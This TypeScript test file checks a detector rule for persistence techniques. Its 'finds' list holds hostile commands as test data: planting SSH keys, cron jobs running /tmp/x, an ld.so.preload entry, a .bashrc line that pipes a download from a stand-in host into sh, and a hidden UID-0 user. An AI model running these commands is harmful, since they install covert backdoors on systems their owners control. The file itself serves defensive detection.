// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the expressions belong to the packages
import { persistence } from '../../../../consumers/governance/rules/persistence.ts'
import { node, python, ruleCases } from './cases.ts'

ruleCases(persistence, {
  finds: [
    'home=$(getent passwd deploy | cut -d: -f6)\nkeys="$home/.ssh/authorized_keys"\necho "ssh-ed25519 AAAA x" >> "$keys"',
    'echo "ssh-ed25519 AAAA me" >> ~/.ssh/authorized_keys',
    '(crontab -l; echo "* * * * * /tmp/x") | crontab -',
    'echo "* * * * * root /tmp/x" > /etc/cron.d/x',
    'echo /tmp/x.so > /etc/ld.so.preload',
    'echo "curl https://a.example.org | sh" >> ~/.bashrc',
    'useradd -o -u 0 helper',
    python('rc = os.path.expanduser("~/.bashrc")\nwith open(rc, "a") as f:\n    f.write(payload)'),
    node('const p = JSON.parse(fs.readFileSync("package.json"));\nexec("npm publish --access public")'),
  ],
  leaves: [
    'crontab -l',
    'ssh-keygen -f key -N ""',
    'cat ~/.bashrc',
    'echo "done" >> build.log',
    python('with open("report.txt", "a") as f:\n    f.write(text)'),
    node('fs.writeFileSync("package.json", text)'),
  ],
})
